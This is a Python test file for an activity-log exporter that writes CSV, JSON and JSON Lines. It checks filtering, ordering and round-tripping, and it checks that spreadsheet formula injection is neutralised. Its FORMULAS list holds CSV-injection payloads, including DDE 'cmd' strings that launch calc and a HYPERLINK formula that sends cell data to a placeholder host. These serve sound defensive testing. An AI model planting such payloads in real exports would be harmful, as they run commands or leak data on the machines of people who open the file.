"""The log as a file."""

from collections.abc import Iterator
from contextlib import closing
import csv
from datetime import datetime, timedelta
from io import StringIO
import json
from pathlib import Path
import sqlite3
from typing import Any

from hypothesis import given, settings, strategies as st
import pytest

from custom_components.ledgrab.activity.errors import QueryError, StoreUnavailableError
from custom_components.ledgrab.activity.export import ExportFormat, disarm, iter_export
from custom_components.ledgrab.activity.model import ActivityEntry, Filters, Severity
from custom_components.ledgrab.activity.store import ActivityStore
from tests.activity.drafts import NOON, draft, microseconds

FORMULAS = (
    "=1+1",
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    '=HYPERLINK("http://x/?d="&A1,"c")',
    " =1+1",
    "\u00a0=1",
    "\t=1",
    "\r=1",
    "safe\n=cmd|'/c calc'!A1",
    "\uff1d1+1",
    "\u200b\uff20x",
    "|calc",
    "-5",
    "'already",
)
PLAIN = ("TV", "a=b", "1-2", ";=1", 'a,b"c', "", "Größe", "小さい", "½ - ¼")


def exported(path: Path, file_format: ExportFormat, filters: Filters = Filters()) -> str:  # noqa: B008
    """Return a whole export."""
    return b"".join(block.data for block in iter_export(path, file_format, filters)).decode()


def from_csv(text: str) -> list[dict[str, str]]:
    """Return the cells as a reader that knows of the leading apostrophe gets them."""
    return [
        {field: cell.removeprefix("'") for field, cell in row.items()}
        for row in csv.DictReader(StringIO(text, newline=""))
    ]


def as_cells(entry: ActivityEntry) -> dict[str, str]:
    """Return what the cells of an entry should hold."""
    fields = entry.as_dict()
    metadata = json.dumps(fields.pop("metadata"), ensure_ascii=False, separators=(",", ":"))
    return {field: value or "" for field, value in fields.items()} | {"metadata": metadata}


@pytest.fixture
def tampered(path: Path, store: ActivityStore) -> Iterator[sqlite3.Connection]:
    """Yield a foreign connection that writes what the store never would."""
    store.append([draft("one")])
    with closing(sqlite3.connect(path, autocommit=True)) as connection:
        yield connection


def test_an_empty_log_is_an_empty_file(path: Path, store: ActivityStore) -> None:
    assert exported(path, ExportFormat.JSONL) == ""
    assert json.loads(exported(path, ExportFormat.JSON)) == []
    assert from_csv(exported(path, ExportFormat.CSV)) == []
    assert exported(path, ExportFormat.CSV).startswith('"id","ts","category"')


def test_json_lines_lose_nothing(path: Path, store: ActivityStore) -> None:
    entries = store.append(
        [
            draft(
                'TV "1" \\ Größe 小さい 👍',
                metadata={"device": 'a"b', "reason": None, "source": [1, 0.5, True, "x"]},
            ),
            draft(ts=microseconds(NOON) + 120_000, entity_type="target", entity_id="01J", entity_name="TV"),
            draft(ts=0),
            draft(ts=253_402_214_400_000_000),
        ]
    )
    lines = exported(path, ExportFormat.JSONL).splitlines()
    assert [json.loads(line) for line in lines] == [entry.as_dict() for entry in entries]
    assert json.loads(exported(path, ExportFormat.JSON)) == [entry.as_dict() for entry in entries]


def test_an_export_goes_from_old_to_new_across_all_blocks(path: Path, store: ActivityStore) -> None:
    for _ in range(5):
        store.append([draft(f"{number}") for number in range(500)])
    blocks = list(iter_export(path, ExportFormat.JSONL))
    assert [block.rows for block in blocks if block.rows] == [1_000, 1_000, 500]
    assert len(json.loads(exported(path, ExportFormat.JSON))) == 2_500
    assert len(from_csv(exported(path, ExportFormat.CSV))) == 2_500
    assert [row["message"] for row in from_csv(exported(path, ExportFormat.CSV))] == [
        str(number) for number in range(500)
    ] * 5


@pytest.mark.parametrize("file_format", ExportFormat)
def test_filters_hold_for_exports(path: Path, store: ActivityStore, file_format: ExportFormat) -> None:
    for number in range(3):
        store.append([draft(ts=microseconds(NOON) + number)] * 1_000)
        store.append([draft("wanted", severity="error", ts=microseconds(NOON) + number)])
    filters = Filters(
        severities=frozenset({Severity.ERROR}),
        since=NOON + timedelta(microseconds=1),
        message_like="WANTED",
    )
    assert exported(path, file_format, filters).count("wanted") == 2
    assert sum(block.rows for block in iter_export(path, file_format, filters)) == 2


def test_others_write_and_checkpoint_during_an_export(path: Path, store: ActivityStore) -> None:
    store.append([draft()] * 2_500)
    blocks = iter_export(path, ExportFormat.JSONL)
    assert [next(blocks).rows, next(blocks).rows] == [0, 1_000]
    store.append([draft("later")])
    assert store.checkpoint()
    store.clear()
    assert sum(block.rows for block in blocks) == 0


def test_an_export_that_cannot_be_made_fails_before_its_first_byte(path: Path, store: ActivityStore) -> None:
    with pytest.raises(QueryError):
        next(iter_export(path, ExportFormat.CSV, Filters(since=datetime(2026, 1, 1))))  # noqa: DTZ001
    with pytest.raises(StoreUnavailableError):
        next(iter_export(path.with_name("nothing"), ExportFormat.CSV))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_disarmed(cell: str) -> None:
    assert disarm(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert disarm(cell) == cell


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
@pytest.mark.parametrize("field", ["message", "actor", "entity_type", "entity_id", "entity_name", "action"])
def test_no_field_of_a_csv_starts_a_formula(path: Path, store: ActivityStore, field: str, text: str) -> None:
    (entry,) = store.append([draft(**{"message": "m", field: text})])
    (row,) = csv.DictReader(StringIO(exported(path, ExportFormat.CSV), newline=""))
    assert not row[field].lstrip(" \u00a0").startswith(("=", "+", "-", "@", "|", "\uff1d", "\uff20"))
    assert from_csv(exported(path, ExportFormat.CSV)) == [as_cells(entry)]


def test_every_cell_is_quoted_and_rows_end_as_rfc_4180_says(path: Path, store: ActivityStore) -> None:
    store.append([draft("one"), draft("two"), draft("=three")])
    for line in exported(path, ExportFormat.CSV).removesuffix("\r\n").split("\r\n"):
        assert line.startswith('"')
        assert line.endswith('"')
        assert len(line.split('","')) == 11


def test_formulas_far_apart_are_all_disarmed(path: Path, store: ActivityStore) -> None:
    drafts = [draft(f"=cmd {number}" * (number % 1_700 == 3) + "x") for number in range(5_000)]
    entries = store.append(drafts)
    text = exported(path, ExportFormat.CSV)
    assert text.count("\"'=cmd") == 3
    assert from_csv(text) == [as_cells(entry) for entry in entries]


@pytest.mark.parametrize(
    "text", ["a\x1f=1", "a\x1e\x1f=1", "line\n=1", "line\r=1", "\x1f", "\x1e", "\n", "\t=1", "\u200b=1"]
)
def test_a_file_that_somebody_tampered_with_starts_no_formula(
    path: Path, tampered: sqlite3.Connection, text: str
) -> None:
    tampered.execute(
        "INSERT INTO entries VALUES (2, 'al_', 0, 'system', 'x', 'info', ?, ?, NULL, NULL, NULL, '{}')",
        (text, text),
    )
    rows = list(csv.DictReader(StringIO(exported(path, ExportFormat.CSV), newline="")))
    assert [row["message"] for row in rows] == ["one", disarm(text)]
    assert [json.loads(line)["message"] for line in exported(path, ExportFormat.JSONL).splitlines()] == [
        "one",
        text,
    ]


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.fixed_dictionaries(
            {"message": st.text(), "actor": st.text(), "entity_name": st.none() | st.text()},
            optional={
                "metadata": st.dictionaries(st.sampled_from(["device", "reason"]), st.text() | st.floats())
            },
        ),
        max_size=5,
    )
)
def test_every_format_gives_back_what_was_stored(
    tmp_path_factory: pytest.TempPathFactory, fields: list[dict[str, Any]]
) -> None:
    path = tmp_path_factory.mktemp("log") / "activity.db"
    with closing(ActivityStore.open(path)) as store:
        entries = store.append([draft(**given) for given in fields])
        assert from_csv(exported(path, ExportFormat.CSV)) == [as_cells(entry) for entry in entries]
        assert json.loads(exported(path, ExportFormat.JSON)) == [entry.as_dict() for entry in entries]
        # Not splitlines: it also splits at line separators inside of a string.
        lines = exported(path, ExportFormat.JSONL).split("\n")[:-1]
        assert [json.loads(line) for line in lines] == [entry.as_dict() for entry in entries]
